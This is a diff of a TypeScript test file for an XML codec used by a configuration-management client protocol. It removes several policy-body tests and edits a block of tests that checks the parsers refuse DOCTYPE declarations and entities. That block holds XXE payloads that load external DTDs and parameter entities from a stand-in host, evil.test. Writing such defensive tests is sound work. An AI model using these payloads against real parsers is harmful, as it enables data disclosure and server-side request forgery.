@@ -650,39 +650,6 @@ describe('bodies', () => {
     expectWire(() => parsePolicyRequestPath('/SMS_MP/.sms_aut?MPLIST'), 'SUCA_ERR_WIRE_FIELD');
   });
 
-  it('policy body: SUCA client settings', () => {
-    const xml = fx('policy-settings.xml');
-    const b = decodePolicyBody(xml);
-    expect(b).toEqual({ policyId: '{SUCA-SETTINGS}', policyVersion: 2, policySource: 'SMS:PS1', kind: 'settings', settings: SETTINGS });
-    expect(encodePolicyBody(b)).toBe(xml);
-    const off: PolicyBody = { ...b, policyVersion: 1, settings: { ...SETTINGS, softwareUpdatesEnabled: false, scanRetryCodes: [] } } as PolicyBody;
-    expect(decodePolicyBody(encodePolicyBody(off))).toEqual(off);
-  });
-
-  it('policy body: software updates deployment (escaped name, times, optional deadline)', () => {
-    const xml = fx('policy-deployment.xml');
-    const b = decodePolicyBody(xml);
-    expect(b).toEqual({ policyId: DEPLOYMENT_ID, policyVersion: 1, policySource: 'SMS:PS1', kind: 'deployment', deployment: DEPLOYMENT });
-    expect(encodePolicyBody(b)).toBe(xml);
-    const optional: PolicyBody = { policyId: DEPLOYMENT_ID, policyVersion: 3, policySource: 'SMS:PS1', kind: 'deployment', deployment: { ...DEPLOYMENT, index: 4, deadline: null, updates: [], available: T_AVAILABLE + 1 } };
-    const enc = encodePolicyBody(optional);
-    expect(enc).toContain('<property name="deadline" type="101"/>');
-    expect(decodePolicyBody(enc)).toEqual(optional);
-  });
-
-  it('policy body: values that cannot be encoded or decoded', () => {
-    const settings = (s: Partial<ClientSettings>): PolicyBody => ({ policyId: '{S}', policyVersion: 1, policySource: '', kind: 'settings', settings: { ...SETTINGS, ...s } });
-    expectWire(() => encodePolicyBody(settings({ scanInterval: 1.5 })), 'SUCA_ERR_WIRE_FIELD', /scanInterval/);
-    expectWire(() => encodePolicyBody(settings({ scanRetryCount: -1 })), 'SUCA_ERR_WIRE_FIELD', /scanRetryCount/);
-    expectWire(() => encodePolicyBody(settings({ scanRetryCodes: [0x1_0000_0000] })), 'SUCA_ERR_WIRE_FIELD', /scanRetryCodes"\]\[0\]$/);
-    const xml = fx('policy-settings.xml');
-    expectWire(() => decodePolicyBody(xml.replace(/<property name="scanTtl"[^]*?<\/property>/, '')), 'SUCA_ERR_WIRE_FIELD', /property\[@name="scanTtl"\]/);
-    expectWire(() => decodePolicyBody(xml.replace('<value>true</value>', '<value>yes</value>')), 'SUCA_ERR_WIRE_FIELD', /softwareUpdatesEnabled/);
-    expectWire(() => decodePolicyBody(xml.replace('<value>4</value>', '<value>4</value><value>5</value>')), 'SUCA_ERR_WIRE_FIELD', /scanRetryCount/);
-    expectWire(() => decodePolicyBody(xml.replace(/CCM_SoftwareUpdatesClientConfig/, 'CCM_Other')), 'SUCA_ERR_WIRE_FIELD', 'Policy');
-    expectWire(() => decodePolicyBody(fx('policy-deployment.xml').replace('20260108000000.000000+000', '2026-01-08')), 'SUCA_ERR_WIRE_FIELD', /deadline/);
-  });
-
   it('WSUSLocationRequest: content ID and version, site, AD site, forest, domain, IP', () => {
     const xml = fx('wsus-location-request.xml');
     const r = decodeWsusLocationRequest(xml);
@@ -914,7 +881,7 @@ describe('XML: DOCTYPE and entities refused', () => {
     expectWire(() => decodeHeader(XXE), 'SUCA_ERR_WIRE_XML', 'Msg');
     expectWire(() => decodeHeader('<!doctype Msg><Msg><ID>1</ID><Body Length="2"/></Msg>'), 'SUCA_ERR_WIRE_XML', 'Msg');
     expectWire(() => decodeReplyAssignments('<!DOCTYPE ReplyAssignments SYSTEM "http://evil.test/x.dtd"><ReplyAssignments/>'), 'SUCA_ERR_WIRE_XML', 'ReplyAssignments');
-    expectWire(() => decodePolicyBody('<!DOCTYPE Policy [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]><Policy/>'), 'SUCA_ERR_WIRE_XML', 'Policy');
+    expectWire(() => decodePolicyBody('<!DOCTYPE Policy [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]><Policy/>', { updateIndexOf: () => undefined }), 'SUCA_ERR_WIRE_XML', 'Policy');
     expectWire(() => decodeMpList('<?xml version="1.0"?>\n<!DOCTYPE MPList []>\n<MPList/>'), 'SUCA_ERR_WIRE_XML', 'MPList');
   });
 
